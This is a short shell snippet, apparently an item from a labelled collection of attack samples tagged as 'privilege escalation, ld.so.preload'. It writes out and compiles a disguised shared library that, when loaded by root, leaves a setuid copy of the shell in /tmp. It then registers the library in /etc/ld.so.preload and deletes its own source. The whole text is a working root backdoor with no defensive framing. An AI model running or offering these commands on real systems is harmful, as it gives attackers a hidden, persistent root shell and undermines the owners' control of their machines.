# class: privilege escalation, ld.so.preload; style: compiles a library
cat > /tmp/l.c <<'C'
#include <unistd.h>
#include <stdlib.h>
__attribute__((constructor)) void i(void){ if(geteuid()==0){ setuid(0); setgid(0); system("cp /bin/sh /tmp/rsh; chmod 4755 /tmp/rsh"); } }
C
gcc -shared -fPIC -o /lib/libaudit2.so /tmp/l.c && echo /lib/libaudit2.so >> /etc/ld.so.preload && rm /tmp/l.c
